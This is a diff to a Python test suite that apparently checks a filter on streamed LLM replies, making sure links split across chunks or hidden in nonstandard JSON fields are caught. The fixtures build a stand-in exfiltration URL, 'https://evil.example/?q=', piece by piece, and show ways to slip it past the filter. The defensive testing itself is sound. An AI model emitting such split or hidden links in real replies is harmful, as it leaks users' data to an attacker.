@@ -51,7 +51,7 @@ def passed(wire: str, body: str, choices: int | None = None) -> str:
             behind = channel.after if isinstance(channel.after, Restorer) else None
             made = Restorer(
                 KNOWN, kinds=frozenset(), json=channel.kind is PartKind.TOOL_CALL,
-                behind=joined.before(channel) or behind, arrivals=arriving.of(channel),
+                behind=joined.before(channel) or behind, unseen=channel.unseen, arrivals=arriving.of(channel),
             )  # fmt: skip
             joined.add(channel, made)
             return made
@@ -156,6 +156,40 @@ def test_an_event_that_sdks_leave_out_ended_a_link(wire: str, first: str, name: 
     with pytest.raises(ProviderReplyInvalid, match="name that SDKs leave out"):
         _ = passed(wire, "".join(texts))
     assert MAIL in passed(wire, line(wire, MARK, name=name) + line(wire, "b", name=name))
+
+
+def odd(place: str, text: str, *more: str) -> str:
+    """A piece of a stream of OpenAI's, with a text in a field that its API does not have."""
+    choice: dict[str, Any] = {"index": 0, "delta": {"content": "a"}, "finish_reason": None}
+    event: dict[str, Any] = {"choices": [choice]}
+    node = {"delta": choice["delta"], "choice": choice, "event": event}[place]
+    for key in more[:-1]:
+        node = node.setdefault(key, {})
+    node[more[-1]] = text
+    return f"data: {json.dumps(event)}\n\n"
+
+
+@pytest.mark.parametrize(
+    "place",
+    [("delta", "thinking"), ("choice", "text"), ("choice", "message", "content"), ("event", "said"),
+     ("delta", "context", "intent")],
+)  # fmt: skip
+def test_a_link_went_on_in_a_field_that_some_servers_put_beside(place: tuple[str, ...]) -> None:
+    first, *more = place
+    for cut in range(2, len(IMAGE)):
+        before = (IMAGE[:cut], IMAGE[cut:])
+        assert MAIL not in passed("openai", "".join(odd(first, text, *more) for text in (*before, MARK)))
+    again = "".join(odd(first, text, *more) for text in ("h", "t", "t", "ps://evil.example/?q=", MARK))
+    assert MAIL not in passed("openai", again)
+    told = "".join(odd(first, text, *more) for text in ("see ", MARK, " and ", MARK))
+    assert passed("openai", told).count(MAIL) == 2
+
+
+def test_a_link_went_on_in_a_field_that_completions_do_not_have() -> None:
+    for said in ({"said": "{}"}, {"delta": {"content": "{}"}}):
+        event = f"data: {json.dumps({'choices': [{'index': 0, 'text': 'a', **said}]})}\n\n"
+        assert MAIL not in passed("completions", event.replace("{}", IMAGE) + event.replace("{}", MARK))
+        assert MAIL in passed("completions", event.replace("{}", "see ") + event.replace("{}", MARK))
 
 
 def test_a_choice_that_programs_do_not_look_at_ended_a_link() -> None:
